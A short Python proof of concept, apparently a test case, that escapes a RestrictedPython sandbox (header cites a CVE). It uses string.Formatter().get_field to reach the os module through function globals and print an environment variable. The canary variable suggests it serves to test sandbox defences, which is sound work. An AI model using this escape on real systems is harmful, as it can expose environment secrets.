# source: RestrictedPython CVE-2026-76825
# effect: environment

import random
import string

environ, _ = string.Formatter().get_field("0.__globals__[_os].environ", (random.Random.seed,), {})
print(environ["ASSAY_CANARY"])
